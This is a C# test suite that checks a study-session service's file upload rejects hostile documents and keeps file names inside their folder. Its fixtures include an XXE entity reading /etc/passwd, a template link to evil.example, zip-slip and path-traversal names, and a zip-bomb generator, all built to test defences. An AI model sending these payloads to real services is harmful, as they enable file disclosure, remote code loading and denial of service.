using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json;
using StudySuite.Testing;

namespace StudySuite.Sessions.Tests.Abuse;

/// <summary>Files that mean harm, over the wire as a browser sends them: refused by what they are, and nothing is kept.</summary>
public class HostileFileTests
{
    private const string Upload = $"/sessions/v1/{County.Session}/files:upload";

    protected virtual Backing Backing => Backing.Sqlite;

    private static Dictionary<string, byte[]> Hostile { get; } = new()
    {
        ["FILE_HAS_MACROS"] = Docx(("word/vbaProject.bin", "x")),
        ["FILE_HAS_EXTERNAL_ENTITY"] = Docx(
            ("word/styles.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>")),
        ["FILE_HAS_EXTERNAL_RELATION"] = Docx((
            "word/_rels/settings.xml.rels",
            """
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
              Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
              Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>
            """)),
        ["FILE_HAS_ACTIVE_CONTENT"] = Docx(("word/embeddings/oleObject1.bin", "x")),
        ["FILE_ENTRY_NAME_INVALID"] = Docx(("../../etc/cron.d/x", "x")),
        ["FILE_IS_ZIP_BOMB"] = Bomb(),
        ["FILE_TYPE_NOT_ALLOWED"] = "<html><script>alert(1)</script></html>\0"u8.ToArray(),
        ["FILE_OLD_OFFICE_FORMAT"] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1],
        ["FILE_HAS_SECRET_MARK"] = Encoding.UTF8.GetBytes("机密★5年 通报"),
    };

    [Fact]
    public async Task Upload_HostileFiles_AreRefusedByWhatTheyAreAndLeaveNothing()
    {
        await using var county = await County.OpenAsync(Backing);
        await county.GivenPlannedAsync();

        foreach (var (reason, bytes) in Hostile)
        {
            // The name says that it is harmless; the bytes decide.
            Assert.Equal((HttpStatusCode.BadRequest, reason), await PostAsync(county, "学习要点.docx", bytes));
        }

        Assert.Empty((await county.Secretary.Materials.ListMaterialFilesAsync(new() { Parent = County.Session })).Files);
        Assert.Empty(county.FilesThere);
    }

    [Fact]
    public async Task Upload_PathsAsNames_StayInTheirFolder()
    {
        await using var county = await County.OpenAsync(Backing);
        await county.GivenPlannedAsync();

        foreach (var name in new[] { "../../../etc/passwd", "..\\..\\windows\\system32\\x.dll", "/etc/cron.d/x", "a/../../b", "..", "%2e%2e%2fx" })
        {
            Assert.Equal(HttpStatusCode.OK, (await PostAsync(county, name, Encoding.UTF8.GetBytes($"要点 {name}"))).Status);
        }

        var files = (await county.Secretary.Materials.ListMaterialFilesAsync(new() { Parent = County.Session })).Files;
        Assert.Equal(6, files.Count);
        Assert.All(files, file => Assert.DoesNotMatch(@"[/\\]|\.\.", file.FileName));
        Assert.All(files, file => Assert.True(File.Exists(county.BlobPath(file.Sha256))));
        foreach (var address in new[] { $"{County.Session}/files/..%2f..%2fx:download", $"{County.Session}/files/%2e%2e:download" })
        {
            var answer = await county.Secretary.Http.GetAsync($"/sessions/v1/{address}", TestContext.Current.CancellationToken);
            Assert.Contains(answer.StatusCode, new[] { HttpStatusCode.NotFound, HttpStatusCode.BadRequest });
        }
    }

    private static async Task<(HttpStatusCode Status, string Reason)> PostAsync(County county, string name, byte[] bytes)
    {
        var cancel = TestContext.Current.CancellationToken;
        var answer = await county.Secretary.Http.PostAsync(
            $"{Upload}?fileName={Uri.EscapeDataString(name)}", new ByteArrayContent(bytes), cancel);
        using var body = JsonDocument.Parse(await answer.Content.ReadAsStringAsync(cancel));
        var violations = !body.RootElement.TryGetProperty("details", out var details) ? [] : details.EnumerateArray()
            .Where(detail => detail.TryGetProperty("fieldViolations", out _))
            .SelectMany(detail => detail.GetProperty("fieldViolations").EnumerateArray())
            .Select(violation => violation.GetProperty("reason").GetString()!).ToArray();
        return (answer.StatusCode, string.Join(' ', violations));
    }

    private static byte[] Docx(params (string Name, string Content)[] more) => Zip([
        ("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
        ("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body/></w:document>"),
        .. more.Select(entry => (entry.Name, entry.Content)),
    ]);

    /// <summary>Kilobytes that become 64 megabytes of one byte.</summary>
    private static byte[] Bomb()
    {
        using var bytes = new MemoryStream(Docx());
        using var bomb = new MemoryStream();
        bytes.CopyTo(bomb);
        using (var zip = new ZipArchive(bomb, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("word/media/image1.png", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 64; i++)
            {
                entry.Write(zeros);
            }
        }

        return bomb.ToArray();
    }

    private static byte[] Zip(params IEnumerable<(string Name, string Content)> entries)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        return bytes.ToArray();
    }
}

[Trait("Needs", "Servers")]
public sealed class HostileFileOnServersTests : HostileFileTests
{
    protected override Backing Backing => Backing.Servers;
}
